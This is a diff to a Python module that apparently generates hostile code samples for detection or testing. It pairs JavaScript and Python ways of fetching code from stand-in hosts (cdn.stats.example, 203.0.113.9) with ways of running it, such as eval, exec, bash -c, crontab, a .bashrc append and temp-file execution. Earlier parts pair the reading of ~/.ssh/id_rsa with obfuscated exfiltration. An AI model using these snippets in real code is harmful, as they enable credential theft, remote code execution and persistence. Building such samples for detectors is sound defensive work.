@@ -1,13 +1,15 @@
-"""Ways that a secret takes through a program, from where it is read to where it leaves. Each way out fits each way in.
+"""Ways through a program: of a secret, from where it is read to where it leaves, and of code, from where it is fetched to where
+it is run. Each second half fits each first.
 
-`d` is what was read. A way in with `OUT` in it has the way out in that place; else it stands behind.
+`d` is what was read and `c` what was fetched. A first half with `OUT` in it has the second in that place; else it stands behind.
 """
 
 from __future__ import annotations
 
 JS_HEAD = (
     "import fs from 'node:fs'; import fsp from 'node:fs/promises'; import os from 'node:os'; import path from 'node:path';\n"
-    "import https from 'node:https'; import net from 'node:net'; import zlib from 'node:zlib'; import axios from 'axios';\n"
+    "import https from 'node:https'; import net from 'node:net'; import vm from 'node:vm'; import "
+    "zlib from 'node:zlib'; import axios from 'axios';\n"
     "import { execSync, spawn, exec, execFileSync } from 'node:child_process'; import got from 'got';\n"
     "import { request } from 'undici';\n"
 )
@@ -106,8 +108,9 @@ JS_OUT = {
     "await fetch(`https://${h}/x`, { method: 'POST', body: d });",
 }
 PY_HEAD = (
-    "import asyncio, base64, ftplib, glob, gzip, http.client, io, json, os, pathlib, shutil, smtplib, socket, subprocess, sys\n"
-    "import tarfile, threading, urllib.request, zipfile\nfrom pathlib import Path\nimport aiohttp, httpx, requests\n"
+    "import asyncio, base64, ftplib, glob, gzip, http.client, io, json, os, pathlib, runpy, shutil, smtplib, socket, subprocess\n"
+    "import sys, tarfile, tempfile, threading, urllib.request, zipfile\nfrom pathlib import "
+    "Path\nimport aiohttp, httpx, requests\n"
 )
 _PY_PATH = "Path.home() / '.ssh' / 'id_rsa'"
 _PY_READ = f"({_PY_PATH}).read_text()"
@@ -181,4 +184,80 @@ PY_OUT = {
     "hidden address": "requests.post(base64.b64decode('aHR0cHM6Ly9pbi5zdGF0cy5leGFtcGxlL3g=').decode(), data=d)",
     "address in parts": "h = '.'.join(['in', 'stats', 'example'])\nrequests.post('https://' + h + '/x', data=d)",
     "hidden method": f"getattr(requests, 'po' + 'st')({_TO}, data=d)",
+}
+_FROM = "'https://cdn.stats.example/s.txt'"
+JS_FETCHED = {
+    "fetch": f"const c = await (await fetch({_FROM})).text();",
+    "member of an answer": f"const {{ code: c }} = await (await fetch({_FROM})).json();",
+    "then": f"fetch({_FROM}).then((r) => r.text()).then((c) => {{ OUT }});",
+    "axios": f"const {{ data: c }} = await axios.get({_FROM});",
+    "got": f"const c = await got({_FROM}).text();",
+    "piece by piece": f"https.get({_FROM}, (r) => {{ let c = ''; r.on('data', (d) => (c += d)); r.on('end', () => {{ "
+    f"OUT }}); }});",
+    "promise": "const get = (u) => new Promise((ok, no) => { https.get(u, (r) => { const p = [];\n"
+    "  r.on('data', (x) => p.push(x)); r.on('end', () => ok(Buffer.concat(p).toString())); }).on('error', no); });\n"
+    f"const c = await get({_FROM});",
+    "helper": "async function get(u) { try { const r = await fetch(u); return r.ok ? await r.text() : null; } "
+    "catch { return null; } }\n"
+    f"const c = await get({_FROM});",
+    "command": "const c = execSync('curl -fsSL https://cdn.stats.example/s.txt').toString();",
+    "base64": f"const c = Buffer.from(await (await fetch({_FROM})).text(), 'base64').toString();",
+    "several hosts": "let c; for (const u of ['https://a.stats.example/x', 'https://b.stats.example/x']) {\n"
+    "  try { c = await (await fetch(u)).text(); break; } catch {} }",
+    "setting": f"const s = await (await fetch({_FROM})).json(); const c = s?.hooks?.post ?? '';",
+}
+JS_RUN = {
+    "eval": "eval(c);",
+    "indirect eval": "(0, eval)(c);",
+    "Function": "new Function('require', c)(null);",
+    "asynchronous function": "await Object.getPrototypeOf(async function () {}).constructor(c)();",
+    "vm": "vm.runInThisContext(c);",
+    "file": "fs.writeFileSync('/tmp/s.js', c); execSync('node /tmp/s.js');",
+    "file that is imported": "const p = path.join(os.tmpdir(), 's.mjs'); fs.writeFileSync(p, c); await import(p);",
+    "file that is started": "fs.writeFileSync('/tmp/s.sh', c, { mode: 0o755 }); spawn('/tmp/s.sh', [], { detached: true "
+    "}).unref();",
+    "line": "exec(c);",
+    "shell": "spawn('bash', ['-c', c]);",
+    "input": "execFileSync('bash', [], { input: c });",
+    "input of a process": "const p = spawn('sh'); p.stdin.write(c); p.stdin.end();",
+    "another node": "execFileSync(process.execPath, ['-e', c]);",
+    "address with code": "await import('data:text/javascript,' + encodeURIComponent(c));",
+    "own file": "fs.writeFileSync(process.argv[1], c);",
+    "helper": "function run(s) { fs.writeFileSync('/tmp/.x', s, { mode: 0o700 }); return execFileSync('/tmp/.x'); }\nrun(c);",
+}
+PY_FETCHED = {
+    "requests": f"c = requests.get({_FROM}).text",
+    "member of an answer": f"c = requests.get({_FROM}).json()['code']",
+    "urlopen": f"c = urllib.request.urlopen({_FROM}).read().decode()",
+    "request": f"req = urllib.request.Request({_FROM}, headers={{'User-Agent': 'x'}})\nc = urllib.request.urlopen(req).read()",
+    "helper": "def get(u):\n    try:\n        r = requests.get(u, timeout=4)\n        r.raise_for_status()\n  "
+    "      return r.text\n"
+    f"    except requests.RequestException:\n        return ''\nc = get({_FROM})",
+    "method": "class N:\n    def __init__(self, base):\n        self.base = base\n    def get(self, p):\n"
+    "        return requests.get(self.base + p).text\nc = N('https://cdn.stats.example').get('/s.txt')",
+    "base64": f"c = base64.b64decode(requests.get({_FROM}).text).decode()",
+    "command": f"c = subprocess.check_output(['curl', '-s', {_FROM}]).decode()",
+    "asynchronous client": "async def g():\n    async with aiohttp.ClientSession() as s:\n"
+    f"        async with s.get({_FROM}) as r:\n            return await r.text()\nc = asyncio.run(g())",
+    "socket": "s = socket.create_connection(('203.0.113.9', 80))\nc = s.recv(65536).decode()",
+    "line by line": f"c = ''\nfor l in requests.get({_FROM}, stream=True).iter_lines():\n    c += l.decode()",
+    "setting": f"s = requests.get({_FROM}).json()\nc = s.get('hooks', {{}}).get('post', '')",
+}
+PY_RUN = {
+    "exec": "exec(c)",
+    "compiled": "ns = {}\nexec(compile(c, '<s>', 'exec'), ns)\nns['main']()",
+    "file": "p = Path('/tmp') / 's.py'\np.write_text(c)\nsubprocess.Popen([sys.executable, str(p)])",
+    "file for scraps": "f = tempfile.NamedTemporaryFile(delete=False)\nf.write(c)\nf.close()\nos.system('bash ' + f.name)",
+    "handle": "fd, n = tempfile.mkstemp()\nos.write(fd, c)\nos.close(fd)\nsubprocess.call(['sh', n])",
+    "line": "subprocess.run(c, shell=True)",
+    "shell": "subprocess.run(['bash', '-c', c])",
+    "input": "subprocess.run(['bash'], input=c, text=True)",
+    "another interpreter": "subprocess.run([sys.executable, '-c', c])",
+    "module": "Path('/tmp/plug.py').write_text(c)\nrunpy.run_path('/tmp/plug.py')",
+    "table of jobs": "subprocess.run(['crontab', '-'], input=c, text=True)",
+    "profile": "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write(c)",
+    "own file": "Path(__file__).write_text(c)",
+    "hidden name": "getattr(__import__('builtins'), 'ex' + 'ec')(c)",
+    "helper": "def run(s):\n    with open('/tmp/.x', 'w') as f:\n        f.write(s)\n    os.chmod('/tmp/.x', 0o700)\n"
+    "    return subprocess.run(['/tmp/.x']).returncode\nrun(c)",
 }
